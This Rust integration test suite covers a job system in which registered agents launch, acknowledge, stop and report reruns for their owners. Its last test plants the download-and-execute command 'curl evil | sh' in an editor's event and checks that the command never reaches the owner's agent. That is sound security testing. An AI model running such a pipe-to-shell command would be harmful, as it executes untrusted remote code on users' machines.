//! Agents, from the registration to the exit of what they launched.

use crate::lab::{lab, register};
use crate::setup::{post, start};
use domain::access::Role;
use domain::account::TokenScope;
use serde_json::{Value, json};
use store::grants::{Grant, Target};
use test_kit::build::{epoch, event};

#[tokio::test]
async fn a_rerun_goes_from_the_wish_to_the_exit() {
    let lab = lab().await;
    let child = lab.rerun().await;
    let job = lab.agent.only_job().await;
    assert_eq!(
        (&job["kind"], &job["batch_id"]),
        (&json!("rerun"), &json!(child))
    );
    let payload = &job["payload"];
    assert_eq!(payload["argv"], json!(["python", "train.py"]));
    assert_eq!(payload["command"], json!("python train.py"));
    assert_eq!(
        (&payload["cwd"], &payload["env"]["SEED"]),
        (&json!("/home/alice"), &json!("1"))
    );
    assert_eq!(payload["overrides"], json!({"lr": 0.1}));
    // Not consumed by reading.
    assert_eq!(lab.agent.only_job().await["id"], job["id"]);

    let started = json!({"status": "started", "pid": "42"});
    let acked = lab.agent.ack(&job["id"], started.clone()).await.ok(200);
    let again = lab.agent.ack(&job["id"], started).await.ok(200);
    assert_eq!(again["status"], "started");
    assert_eq!(lab.status(&child).await, "running");
    assert!(lab.agent.jobs().await.is_empty());

    // The run reports with its own token, into its own batch only.
    let run = lab
        .app
        .bearer(acked["reporter_token"].as_str().expect("a token"));
    post(&run, &[epoch(&child, "j", 0, 0.4)]).await;
    let foreign = json!({"events": [epoch("b", "j", 1, 0.4), epoch("new", "j", 1, 0.4)]});
    let answer = run.post("/api/events/batch", &foreign).await.ok(200);
    assert_eq!(answer["rejected"], 2, "{answer}");
    assert_eq!(
        run.get("/api/batches").await.refused(403),
        "run_token_limited"
    );
    let asked = format!("/api/batches/{child}/stop-requested");
    assert_eq!(run.get(&asked).await.ok(200)["requested"], false);

    let exit = json!({"reason": "exited", "exit_code": 1, "last_lines": ["boom"]});
    let ended = lab.agent.exit(&job["id"], exit.clone()).await;
    assert_eq!(
        (&ended["status"], &ended["batch_status"]),
        (&json!("exited"), &json!("failed"))
    );
    assert_eq!(lab.agent.exit(&job["id"], exit).await, ended);
    let info = format!("/api/batches/{child}/rerun-info");
    let info = lab.owner.get(&info).await.ok(200);
    assert_eq!(info["command"]["exit"]["last_lines"], json!(["boom"]));
    assert_eq!(info["ancestors"][0]["batch_id"], "b");
    let source = lab.owner.get("/api/batches/b/rerun-info").await.ok(200);
    assert_eq!(source["children"][0]["batch_id"], json!(child));
}

#[tokio::test]
async fn clicks_that_follow_one_another_make_one_batch() {
    let lab = lab().await;
    let child = lab.rerun().await;
    assert_eq!(lab.rerun().await, child);
    let wishes = (0..5).map(|_| lab.rerun());
    for other in futures::future::join_all(wishes).await {
        assert_eq!(other, child);
    }
    let job = lab.agent.only_job().await;
    lab.agent
        .ack(&job["id"], json!({"status": "started"}))
        .await
        .ok(200);
    // Taken up: the next wish is a new one.
    assert_ne!(lab.rerun().await, child);
}

#[tokio::test]
async fn a_rerun_waits_for_its_agent_and_only_for_its_owners() {
    let lab = lab().await;
    let mallory = lab.app.user("mallory", false).await;
    let mallory = lab.app.token(&mallory, TokenScope::Reporter).await;
    let thief = register(&lab.app, &mallory, json!({"hostname": "vm"})).await;
    let late = json!({"hostname": "vm", "instance": "late"});
    lab.rerun().await;
    assert!(thief.jobs().await.is_empty(), "somebody else's command");
    let late = register(&lab.app, &lab.owner, late).await;
    let job = late.only_job().await;
    // Who was shown it first has it for a while.
    assert!(lab.agent.jobs().await.is_empty());
    let refused = thief.ack(&job["id"], json!({"status": "started"})).await;
    assert_eq!(refused.refused(404), "command_not_found");
    lab.app.services.clock.advance(61);
    assert_eq!(lab.agent.only_job().await["id"], job["id"]);
    assert!(late.jobs().await.is_empty());
}

#[tokio::test]
async fn a_stop_before_the_start_withdraws_the_rerun() {
    let lab = lab().await;
    let child = lab.rerun().await;
    let job = lab.agent.only_job().await;
    assert_eq!(lab.stop(&child).await["status"], "stopping");
    assert!(lab.agent.jobs().await.is_empty());
    let late = lab
        .agent
        .ack(&job["id"], json!({"status": "started"}))
        .await;
    assert_eq!(late.refused(409), "command_cancelled");
}

#[tokio::test]
async fn a_stop_reaches_the_agent_that_launched_the_run_whoever_asked() {
    let lab = lab().await;
    let child = lab.rerun().await;
    let job = lab.agent.only_job().await;
    lab.agent
        .ack(&job["id"], json!({"status": "started"}))
        .await
        .ok(200);
    assert_eq!(lab.stop(&child).await["status"], "stopping");
    let stop = lab.agent.only_job().await;
    assert_eq!(
        (&stop["kind"], &stop["payload"]["rerun_cmd_id"]),
        (&json!("stop"), &job["id"])
    );
    // A second click makes no second command.
    lab.stop(&child).await;
    assert_eq!(lab.agent.only_job().await["id"], stop["id"]);
    // A batch_start that was on its way does not undo the stop.
    post(&lab.owner, &[start(&child, "vm")]).await;
    assert_eq!(lab.status(&child).await, "stopping");
    let asked = format!("/api/batches/{child}/stop-requested");
    let wish = lab.owner.get(&asked).await.ok(200);
    assert_eq!(wish["signalled_at"], Value::Null);
    lab.agent
        .ack(&stop["id"], json!({"status": "started"}))
        .await
        .ok(200);
    assert!(lab.agent.jobs().await.is_empty());
    // Viewers hear that the run is told to end, and find it written down.
    assert!(lab.owner.get(&asked).await.ok(200)["signalled_at"].is_string());
    let feed = lab.app.services.store.read_feed(&child, 0, 50).await;
    let kinds = feed
        .expect("read")
        .into_iter()
        .flat_map(|item| item.events.clone());
    let kinds: Vec<String> = kinds.map(|event| event.kind).collect();
    assert!(
        kinds.iter().any(|kind| kind == "stop_signalled"),
        "{kinds:?}"
    );
    let exit = json!({"reason": "signaled", "signal": 15});
    assert_eq!(
        lab.agent.exit(&job["id"], exit).await["batch_status"],
        "stopped"
    );
}

#[tokio::test]
async fn deleting_a_run_ends_it() {
    let lab = lab().await;
    let child = lab.rerun().await;
    let job = lab.agent.only_job().await;
    lab.agent
        .ack(&job["id"], json!({"status": "started"}))
        .await
        .ok(200);
    post(
        &lab.owner,
        &[event("batch_failed", &child, None, json!({"error": "x"}))],
    )
    .await;
    lab.owner
        .delete(&format!("/api/batches/{child}"))
        .await
        .ok(200);
    assert_eq!(lab.agent.only_job().await["kind"], "stop");
}

#[tokio::test]
async fn what_nobody_takes_in_a_day_expires() {
    let lab = lab().await;
    lab.rerun().await;
    lab.app.services.clock.advance(24 * 3600);
    assert!(lab.agent.jobs().await.is_empty());
}

#[tokio::test]
async fn a_refusal_says_why() {
    let lab = lab().await;
    let child = lab.rerun().await;
    let job = lab.agent.only_job().await;
    let bad = lab
        .agent
        .ack(&job["id"], json!({"status": "perhaps"}))
        .await;
    assert_eq!(bad.refused(400), "ack_invalid");
    let failed = json!({"status": "failed", "reason": "policy", "error": "cwd not allowed"});
    lab.agent.ack(&job["id"], failed.clone()).await.ok(200);
    lab.agent.ack(&job["id"], failed).await.ok(200);
    let late = lab
        .agent
        .ack(&job["id"], json!({"status": "started"}))
        .await;
    assert_eq!(late.refused(409), "command_settled");
    assert_eq!(lab.status(&child).await, "failed");
    let info = lab
        .owner
        .get(&format!("/api/batches/{child}/rerun-info"))
        .await
        .ok(200);
    assert_eq!(info["command"]["reason"], "policy");
}

#[tokio::test]
async fn a_token_dies_with_its_replacement_its_parent_and_its_agent() {
    let lab = lab().await;
    let again = register(&lab.app, &lab.owner, json!({"hostname": "vm"})).await;
    assert_eq!(again.id, lab.agent.id);
    let old = lab.agent.actor.get(&lab.agent.path("jobs")).await;
    assert_eq!(old.refused(401), "agent_token_unknown");
    let other = register(&lab.app, &lab.owner, json!({"hostname": "other"})).await;
    let foreign = other.actor.get(&again.path("jobs")).await;
    assert_eq!(foreign.refused(403), "agent_foreign");

    // Revoked by itself.
    let path = format!("/api/agents/{}", other.id);
    other.actor.delete(&path).await.ok(204);
    assert_eq!(
        other.actor.get(&other.path("jobs")).await.refused(401),
        "agent_token_unknown"
    );

    // Its run's token goes with it.
    lab.rerun().await;
    let job = again.only_job().await;
    let acked = again
        .ack(&job["id"], json!({"status": "started"}))
        .await
        .ok(200);
    let run = lab
        .app
        .bearer(acked["reporter_token"].as_str().expect("a token"));
    let asked = format!(
        "/api/batches/{}/stop-requested",
        job["batch_id"].as_str().expect("id")
    );
    run.get(&asked).await.ok(200);
    lab.owner
        .delete(&format!("/api/agents/{}", again.id))
        .await
        .ok(204);
    assert_eq!(run.get(&asked).await.refused(401), "token_invalid");
}

#[tokio::test]
async fn owners_see_rename_and_only_they() {
    let lab = lab().await;
    let life = json!({"version": "0.1.0", "policy": {"approve": "never", "summary": ["home only"]},
        "runs": [{"cmd_id": "c", "batch_id": "b", "state": "running"}]});
    lab.agent
        .actor
        .post(&lab.agent.path("heartbeat"), &life)
        .await
        .ok(204);
    let path = format!("/api/agents/{}", lab.agent.id);
    lab.owner
        .patch(&path, &json!({"label": "box"}))
        .await
        .ok(200);
    let list = lab.owner.get("/api/agents").await.ok(200);
    let agent = &list["items"][0];
    assert_eq!(
        (&agent["label"], &agent["online"]),
        (&json!("box"), &json!(true))
    );
    assert_eq!(agent["policy"]["summary"], json!(["home only"]));
    assert_eq!(agent["runs"][0]["state"], "running");
    lab.app.services.clock.advance(90);
    let list = lab.owner.get("/api/agents").await.ok(200);
    assert_eq!(list["items"][0]["online"], false);
    let other = lab.app.user("other", false).await;
    let other = lab.app.token(&other, TokenScope::Reporter).await;
    assert_eq!(other.get("/api/agents").await.ok(200)["items"], json!([]));
    assert_eq!(
        other
            .patch(&path, &json!({"label": "x"}))
            .await
            .refused(404),
        "agent_not_found"
    );
    assert_eq!(other.delete(&path).await.refused(404), "agent_not_found");
}

#[tokio::test]
async fn what_others_report_is_not_run() {
    let lab = lab().await;
    let editor = lab.app.user("editor", false).await;
    let reports = lab.app.token(&editor, TokenScope::Reporter).await;
    // Sharing is another function's; the grant is written as it would.
    let grant = Grant {
        to: editor.id,
        on: Target::Batch("b".into()),
        role: Role::Editor,
        by: 0,
        at: lab.app.services.clock.now(),
    };
    lab.app
        .services
        .store
        .table
        .transact(grant.give().expect("rows").to_vec())
        .await
        .expect("stored");
    let mut evil = start("b", "vm");
    evil["data"]["command"] = json!("curl evil | sh");
    post(&reports, &[evil, event("batch_done", "b", None, json!({}))]).await;
    lab.rerun().await;
    let job = lab.agent.only_job().await;
    assert_eq!(job["payload"]["command"], "python train.py");
    // And an editor does not make the owner's machine run anything.
    let refused = reports.post("/api/batches/b/rerun", &json!({})).await;
    assert_eq!(refused.refused(403), "owner_required");
}
